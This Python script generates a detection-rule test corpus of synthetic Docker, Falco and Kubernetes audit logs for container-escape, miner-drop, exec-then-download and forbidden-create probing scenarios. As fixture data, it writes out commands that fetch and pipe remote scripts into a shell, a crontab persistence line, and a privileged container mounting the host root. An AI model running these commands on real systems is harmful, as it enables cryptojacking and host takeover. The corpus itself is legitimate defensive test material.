#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Writes the correlation test corpus (corpus/correlations/). Run from the repository root
# with PYTHONHASHSEED=0 so the generated audit ids are the same on every run.
import json, os
C = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "corpus")
def ka_forbidden(t, user, ns="prod", res="pods", code=403, decision="forbid"):
    return json.dumps({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"f0%06d-0000-4000-8000-%012d" % (abs(hash((t,user,ns,res)))%1000000, abs(hash((user,t)))%10**12),
        "stage":"ResponseComplete","requestURI":"/api/v1/namespaces/%s/%s" % (ns, res) if res=="pods" else "/apis/apps/v1/namespaces/%s/%s" % (ns,res),
        "verb":"create","user":{"username":user,"groups":["system:authenticated"]},"sourceIPs":["203.0.113.40"],
        "userAgent":"kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
        "objectRef":{"resource":res,"apiVersion":"v1","namespace":ns} if res=="pods" else {"resource":res,"apiGroup":"apps","apiVersion":"v1","namespace":ns},
        "responseStatus":{"metadata":{},"code":code},"requestReceivedTimestamp":t,"stageTimestamp":t,
        "annotations":{"authorization.k8s.io/decision":decision,"authorization.k8s.io/reason":""}}, separators=(",",":"))
def ka_exec(t, ns, pod, cmd="sh", user="alice@corp.example"):
    return json.dumps({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"e1%06d-0000-4000-8000-000000000001" % (abs(hash((t,ns,pod)))%1000000),
        "stage":"ResponseStarted","requestURI":"/api/v1/namespaces/%s/pods/%s/exec?command=%s&container=app&stdin=true&stdout=true&tty=true" % (ns,pod,cmd),
        "verb":"create","user":{"username":user,"groups":["developers","system:authenticated"]},"sourceIPs":["10.20.0.15"],
        "userAgent":"kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
        "objectRef":{"resource":"pods","apiVersion":"v1","namespace":ns,"name":pod,"subresource":"exec"},
        "responseStatus":{"metadata":{},"code":101},"requestReceivedTimestamp":t,"stageTimestamp":t,
        "annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":""}}, separators=(",",":"))
def falco(t, host, cmd, name, exe=None, ns=None, pod=None, cid="4f1d2c3b9a77", rule="Run shell untrusted"):
    of = {"container.id":cid,"container.name":"app","evt.type":"execve","user.name":"root","user.uid":0,
          "proc.name":name,"proc.exepath":exe or "/usr/bin/"+name,"proc.cmdline":cmd}
    if ns: of["k8s.ns.name"] = ns
    if pod: of["k8s.pod.name"] = pod
    return json.dumps({"hostname":host,"output":"%s: Notice %s (cmdline=%s container_id=%s)" % (t, rule, cmd, cid),
        "priority":"Notice","rule":rule,"source":"syscall","tags":["container","process"],"time":t,"output_fields":of}, separators=(",",":"))
def dockerd_create(t, host, body, name="web"):
    p = "Nov 21 %s %s dockerd[812]: " % (t[11:19], host)
    return (p + 'time="%s" level=debug msg="Calling POST /v1.41/containers/create?name=%s"\n' % (t, name) +
            p + 'time="%s" level=debug msg="form data: %s"' % (t, json.dumps(json.dumps(body, separators=(",",":")))[1:-1]))
def dockerd_start(t, host, cid="0a1b2c3d4e5f"):
    p = "Nov 21 %s %s dockerd[812]: " % (t[11:19], host)
    return p + 'time="%s" level=debug msg="Calling POST /v1.41/containers/%s/start"' % (t, cid)
def body(image="registry.corp.example/shop/web:2.3", privileged=False, cmd=None, binds=None, pid=""):
    return {"Cmd":cmd,"Entrypoint":None,"Env":[],"Image":image,
            "HostConfig":{"Binds":binds,"NetworkMode":"default","PidMode":pid,"IpcMode":"","Privileged":privileged,"CapAdd":None}}
def T(hms, frac="000000000"): return "2026-11-21T%s.%sZ" % (hms, frac)
def w(path, lines):
    with open(os.path.join(C, path), "w") as f:
        f.write("\n".join(l for l in lines if not l.startswith("#")) + "\n")

# ---- t1610_risky_create_then_start (dockerd via syslog: host.name) ----
risky = body(image="alpine", privileged=True, cmd=["sh"], binds=["/:/host"])
plain = body()
n = "correlations/t1610_risky_create_then_start"
w(n + ".pos.log", ["# privileged create with / mounted, started two minutes later on the same daemon",
    dockerd_create(T("10:00:00"), "node-1", risky, "pwn"), dockerd_start(T("10:02:00"), "node-1")])
w(n + ".pos.boundary.log", ["# the start exactly 5m after the create: inside the window",
    dockerd_create(T("10:00:00"), "node-1", risky, "pwn"), dockerd_start(T("10:05:00"), "node-1")])
w(n + ".pos.out-of-order.log", ["# the start line arrives before the create but 2s later in time (tolerance 5s)",
    dockerd_start(T("10:00:03"), "node-1"), dockerd_create(T("10:00:01"), "node-1", risky, "pwn")])
w(n + ".neg.past-window.log", ["# the start 5m and 1ns after the create",
    dockerd_create(T("10:00:00"), "node-1", risky, "pwn"), dockerd_start(T("10:05:00", "000000001"), "node-1")])
w(n + ".neg.plain-create.log", ["# an ordinary create (no privilege, no host path) then a start",
    dockerd_create(T("10:00:00"), "node-1", plain, "web"), dockerd_start(T("10:00:01"), "node-1")])
w(n + ".neg.other-daemon.log", ["# risky create on node-1, start on node-2",
    dockerd_create(T("10:00:00"), "node-1", risky, "pwn"), dockerd_start(T("10:00:02"), "node-2")])
w(n + ".neg.start-first.log", ["# a start a minute before the risky create (no start after it)",
    dockerd_start(T("09:59:00"), "node-1"), dockerd_create(T("10:00:00"), "node-1", risky, "pwn")])

# ---- kinsing_deploy_download_miner (dockerd + Falco, by host.name) ----
dropper = body(image="ubuntu", cmd=["/bin/bash","-c","apt-get update && apt-get install -y wget cron; service cron start; wget -q -O - 203.0.113.9/d.sh | sh; tail -f /dev/null"])
dl = lambda t, h: falco(t, h, "sh -c wget -q -O - http://203.0.113.9/d.sh | sh", "sh", "/usr/bin/dash")
miner = lambda t, h: falco(t, h, "kdevtmpfsi", "kdevtmpfsi", "/tmp/kdevtmpfsi", rule="Drop and execute new binary in container")
cron = lambda t, h: falco(t, h, "bash -c echo '* * * * * $LDR http://203.0.113.9/d.sh | sh > /dev/null 2>&1' | crontab -", "bash", "/usr/bin/bash")
for n, last in (("correlations/kinsing_deploy_download_miner", miner), ("correlations/kinsing_deploy_download_cron", cron)):
    w(n + ".pos.log", [dockerd_create(T("10:00:00"), "node-7", dropper, "ubuntu-kx"), dl(T("10:00:05"), "node-7"), last(T("10:01:00"), "node-7")])
    w(n + ".pos.boundary.log", [dockerd_create(T("10:00:00"), "node-7", plain, "web"), dl(T("10:10:00"), "node-7"), last(T("10:30:00"), "node-7")])
    w(n + ".pos.out-of-order.log", [dockerd_create(T("10:00:00"), "node-7", plain, "web"), last(T("10:00:08"), "node-7"), dl(T("10:00:06"), "node-7")])
    w(n + ".neg.past-window.log", [dockerd_create(T("10:00:00"), "node-7", plain, "web"), dl(T("10:10:00"), "node-7"), last(T("10:30:00", "000000001"), "node-7")])
    w(n + ".neg.no-deploy.log", [dockerd_create(T("10:00:00"), "node-8", plain, "web"), dl(T("10:00:05"), "node-7"), last(T("10:01:00"), "node-7")])
    w(n + ".neg.wrong-order.log", [dockerd_create(T("10:00:00"), "node-7", plain, "web"), last(T("10:01:00"), "node-7"), dl(T("10:02:00"), "node-7")])

# ---- exec_then_download (audit exec + Falco in the same pod) ----
fd = lambda t, ns, pod: falco(t, "node-1", "sh -c curl -s http://203.0.113.9/x.sh | bash", "sh", "/usr/bin/dash", ns=ns, pod=pod)
n = "correlations/exec_then_download"
w(n + ".pos.jsonl", [ka_exec("2026-11-21T10:00:00.000000Z", "shop", "api-5f7c9-x2x7q"), fd(T("10:01:30"), "shop", "api-5f7c9-x2x7q")])
w(n + ".pos.boundary.jsonl", [ka_exec("2026-11-21T10:00:00.000000Z", "shop", "api-5f7c9-x2x7q"), fd(T("10:02:00"), "shop", "api-5f7c9-x2x7q")])
w(n + ".pos.out-of-order.jsonl", [fd(T("10:00:02"), "shop", "api-5f7c9-x2x7q"), ka_exec("2026-11-21T10:00:00.000000Z", "shop", "api-5f7c9-x2x7q")])
w(n + ".neg.past-window.jsonl", [ka_exec("2026-11-21T10:00:00.000000Z", "shop", "api-5f7c9-x2x7q"), fd(T("10:02:00", "000000001"), "shop", "api-5f7c9-x2x7q")])
w(n + ".neg.other-pod.jsonl", [ka_exec("2026-11-21T10:00:00.000000Z", "shop", "api-5f7c9-x2x7q"), fd(T("10:00:30"), "shop", "web-77d8b-k2p4z"), fd(T("10:00:31"), "billing", "api-5f7c9-x2x7q")])
w(n + ".neg.download-first.jsonl", [fd(T("10:00:00"), "shop", "api-5f7c9-x2x7q"), ka_exec("2026-11-21T10:01:00.000000Z", "shop", "api-5f7c9-x2x7q")])

# ---- k8s_forbidden_create_probing ----
n = "correlations/k8s_forbidden_create_probing"
def ts(m, s=0, ns="000000000"): return "2026-11-21T10:%02d:%02d.%sZ" % (m, s, ns)
spaces = ["prod", "kube-system", "default", "payments", "monitoring"]
w(n + ".pos.jsonl", [ka_forbidden(ts(2*i), "ci-bot@corp.example", spaces[i], "pods" if i % 2 == 0 else "deployments") for i in range(5)])
w(n + ".pos.boundary.jsonl", [ka_forbidden(ts(m), "ci-bot@corp.example", spaces[i]) for i, m in enumerate([0, 1, 2, 3, 10])])
w(n + ".pos.out-of-order.jsonl", [ka_forbidden(ts(0, s), "ci-bot@corp.example", spaces[i]) for i, s in enumerate([0, 10, 20, 33, 30])])
w(n + ".neg.past-window.jsonl", [ka_forbidden(ts(0, 0), "ci-bot@corp.example", "prod")] +
    [ka_forbidden(ts(m), "ci-bot@corp.example", spaces[m]) for m in (1, 2, 3)] + [ka_forbidden(ts(10, 0, "000000001"), "ci-bot@corp.example", "prod")])
w(n + ".neg.four.jsonl", [ka_forbidden(ts(i), "ci-bot@corp.example", spaces[i]) for i in range(4)])
w(n + ".neg.allowed.jsonl", [ka_forbidden(ts(i), "ci-bot@corp.example", spaces[i], code=201, decision="allow") for i in range(5)])
w(n + ".neg.many-users.jsonl", [ka_forbidden(ts(i), "user%d@corp.example" % i, "prod") for i in range(5)])

# ---- rule cases of the new step rules ----
w("t1610/docker_risky_container_create.pos.log", [dockerd_create(T("10:00:00"), "node-1", risky, "pwn"),
    dockerd_create(T("10:00:10"), "node-1", body(image="alpine", pid="host", cmd=["sh"]), "pidns")])
w("t1610/docker_risky_container_create.neg.log", [dockerd_create(T("10:00:00"), "node-1", plain, "web"), dockerd_start(T("10:00:01"), "node-1")])
w("t1610/docker_container_started.pos.log", [dockerd_start(T("10:00:01"), "node-1")])
w("t1610/docker_container_started.pos.jsonl", [json.dumps({"Type":"container","Action":"start","Actor":{"ID":"4f2a9c0e5b1d","Attributes":{"image":"alpine:3.19","name":"probe"}},"scope":"local","time":1795255200,"timeNano":1795255200000000000}, separators=(",",":"))])
w("t1610/docker_container_started.neg.log", [dockerd_create(T("10:00:00"), "node-1", plain, "web"),
    "Nov 21 10:00:02 node-1 dockerd[812]: time=\"%s\" level=debug msg=\"Calling POST /v1.41/exec/9b1c/start\"" % T("10:00:02")])
w("t1610/k8s_forbidden_workload_create.pos.jsonl", [ka_forbidden(ts(0), "ci-bot@corp.example", "prod"), ka_forbidden(ts(1), "eve@corp.example", "payments", "deployments")])
w("t1610/k8s_forbidden_workload_create.neg.jsonl", [ka_forbidden(ts(0), "ci-bot@corp.example", "prod", code=201, decision="allow"),
    ka_forbidden(ts(1), "ci-bot@corp.example", "prod", "secrets")])
